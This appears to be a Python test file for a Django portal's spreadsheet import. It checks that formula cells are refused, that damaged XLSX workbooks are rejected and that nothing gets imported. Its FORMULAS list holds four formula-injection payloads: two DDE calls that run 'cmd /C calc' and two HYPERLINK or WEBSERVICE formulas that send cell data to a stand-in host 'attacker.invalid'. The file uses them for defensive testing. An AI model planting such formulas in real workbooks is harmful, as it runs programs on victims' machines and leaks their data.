"""Workbooks through the import path (the catalogue import through the API and its page, then the
worker): formulas that run programs or open links are refused row by row, a workbook whose structure
is damaged is refused before it is stored, and a sheet damaged inside fails the job with its message.
Nothing is imported in any case."""

import io
import zipfile
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from portal.audit.models import AuditEvent
from portal.testing.catalogue_imports import CASES, STEPS
from portal.testing.imports import import_job_run
from portal.testing.models import ImportJob, ImportStatus, TestCase
from portal.tests.hostile.conftest import snapshot
from portal.tests.hostile.corpus import SHEET, xlsx_parts, zip_of

pytestmark = pytest.mark.django_db

CASE_COLUMNS = ["Identifier", "Scenario", "Title", "Batch", "Mandatory", "Role groups"]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")',
    '=DDE("cmd";"/C calc";"A0")',
    '=WEBSERVICE("http://attacker.invalid")',
]


def catalogue_with(title_values: list[str]) -> bytes:
    book = openpyxl.Workbook()
    cases = book.active
    cases.title = CASES
    cases.append(CASE_COLUMNS)
    for index, title in enumerate(title_values, start=1):
        cases.append([f"QT-HOST-{index:03d}", "SCN-01", title, 1, "yes", "SUP"])
    steps = book.create_sheet(STEPS)
    steps.append(["Case", "Step", "Action", "Expected result"])
    for index in range(1, len(title_values) + 1):
        steps.append([f"QT-HOST-{index:03d}", 1, "Do it", "It is done"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _queue(client: Client, headers: dict[str, str], content: bytes, name: str = "catalogue.xlsx") -> Any:
    return client.post(
        "/api/v1/imports", {"kind": "catalogue", "file": SimpleUploadedFile(name, content)}, headers=headers
    )


def test_formulas_that_run_programs_or_open_links_are_refused_row_by_row(client, catalogue_keeper, bearer):
    cases_before = TestCase.objects.count()
    response = _queue(client, bearer(catalogue_keeper), catalogue_with(FORMULAS))
    assert response.status_code == 202, response.content[:300]
    job = import_job_run(job_id=response.json()["id"])
    assert job.status == ImportStatus.FAILED
    formula_rows = [error for error in job.errors if error["reason"] == "holds a formula; enter the value itself"]
    assert {(error["row"], error["column"]) for error in formula_rows} == {(row, "Title") for row in range(2, 6)}
    assert TestCase.objects.count() == cases_before
    assert not AuditEvent.objects.filter(action="import.catalogue.store").exists()
    # The participant reads why in the job, through the API as on its page.
    status = client.get(f"/api/v1/imports/{job.pk}", headers=bearer(catalogue_keeper)).json()
    assert status["status"] == "failed"
    assert any(error["reason"] == "holds a formula; enter the value itself" for error in status["errors"])


def test_a_workbook_whose_structure_is_damaged_is_refused_before_it_is_stored(
    client, catalogue_keeper, bearer, storage_dir
):
    headers = bearer(catalogue_keeper)
    before = snapshot(storage_dir)
    damaged = {
        "workbook-garbage": zip_of({**xlsx_parts(), "xl/workbook.xml": b"<workbook><sheets><sheet"}),
        "workbook-no-sheets": zip_of(
            {**xlsx_parts(), "xl/workbook.xml": b'<workbook xmlns="urn:x"><sheets/></workbook>'}
        ),
        "content-types-garbage": zip_of({**xlsx_parts(), "[Content_Types].xml": b"\x00\x01\x02"}),
    }
    for name, content in damaged.items():
        response = _queue(client, headers, content)
        assert response.status_code == 422, (name, response.status_code, response.content[:200])
        assert response.json()["message"] == (
            "The file catalogue.xlsx could not be read as an Excel workbook (XLSX): its structure is damaged."
        ), name
    assert snapshot(storage_dir) == before


def test_a_sheet_damaged_inside_fails_the_job_with_its_message_and_imports_nothing(client, catalogue_keeper, bearer):
    good = catalogue_with(["A title"])
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts[SHEET] = parts[SHEET][: len(parts[SHEET]) // 2]
    response = _queue(client, bearer(catalogue_keeper), zip_of(parts))
    assert response.status_code == 202
    job = import_job_run(job_id=response.json()["id"])
    assert job.status == ImportStatus.FAILED
    assert "is damaged or contains content that is not allowed" in job.errors[0]["reason"]
    assert not AuditEvent.objects.filter(action="import.catalogue.store").exists()


def test_the_import_page_shows_the_refusal(catalogue_keeper, storage_dir):
    browser = Client()
    browser.force_login(catalogue_keeper)
    before = ImportJob.objects.count()
    response = browser.post("/qt/catalogue/import/", {"file": SimpleUploadedFile("c.xlsx", zip_of({"a": b"b"}))})
    assert response.status_code in {200, 422}
    assert "is not a XLSX file" in response.content.decode()
    assert ImportJob.objects.count() == before
